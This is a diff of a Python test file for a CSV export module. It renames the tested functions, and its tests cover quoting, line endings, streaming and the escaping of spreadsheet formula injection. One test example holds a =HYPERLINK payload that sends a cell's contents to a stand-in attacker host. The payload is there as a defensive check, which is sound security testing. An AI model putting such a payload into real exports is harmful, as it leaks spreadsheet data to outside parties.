@@ -8,7 +8,7 @@ from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from webinars.security import csv as tables
-from webinars.security.csv import escape_formula, lines
+from webinars.security.csv import csv_lines, escape_formula
 
 SIGNS = "=+-@\t\r\n\0＝＋－＠"
 cells = st.text(st.sampled_from([*SIGNS, *"'\",; a١", "é", "\u200b", "\u3000"]), max_size=6)
@@ -34,17 +34,17 @@ def test_other_cells_are_unchanged(cell):
 
 
 def test_every_cell_is_quoted_and_lines_end_with_crlf():
-    body = b"".join(lines([["Name", ""], ['The "best"', "é"]]))
+    body = b"".join(csv_lines([["Name", ""], ['The "best"', "é"]]))
 
     assert body == '\ufeff"Name",""\r\n"The ""best""","é"\r\n'.encode()
 
 
 def test_table_without_rows_is_empty():
-    assert b"".join(lines([])) == b""
+    assert b"".join(csv_lines([])) == b""
 
 
 def test_lone_surrogate_does_not_abort_the_table():
-    assert read(b"".join(lines([["a\ud800b"], ["c"]]))) == [["a?b"], ["c"]]
+    assert read(b"".join(csv_lines([["a\ud800b"], ["c"]]))) == [["a?b"], ["c"]]
 
 
 def test_lines_are_streamed_while_rows_are_loaded():
@@ -55,7 +55,7 @@ def test_lines_are_streamed_while_rows_are_loaded():
             asked.append(number)
             yield [str(number)]
 
-    table = lines(rows())
+    table = csv_lines(rows())
     next(table)
 
     assert asked == [0]
@@ -65,7 +65,7 @@ def test_lines_are_streamed_while_rows_are_loaded():
 @given(st.lists(st.lists(cells, min_size=2, max_size=3), min_size=1, max_size=4))
 @example([['=HYPERLINK("https://evil.example?"&A1)', "\r\n=1"]])
 def test_any_table_parses_back_with_at_most_an_apostrophe_added(table):
-    back = read(b"".join(lines(table)))
+    back = read(b"".join(csv_lines(table)))
 
     assert [[cell.removeprefix("'") for cell in row] for row in back] == [
         [cell.removeprefix("'") for cell in row] for row in table
@@ -76,4 +76,4 @@ def test_any_table_parses_back_with_at_most_an_apostrophe_added(table):
 
 
 def test_line_as_long_as_a_form_is_one_cell():
-    assert tables.cells("a" * 200_000, ";") == ["a" * 200_000]
+    assert tables.parse_cells("a" * 200_000, ";") == ["a" * 200_000]
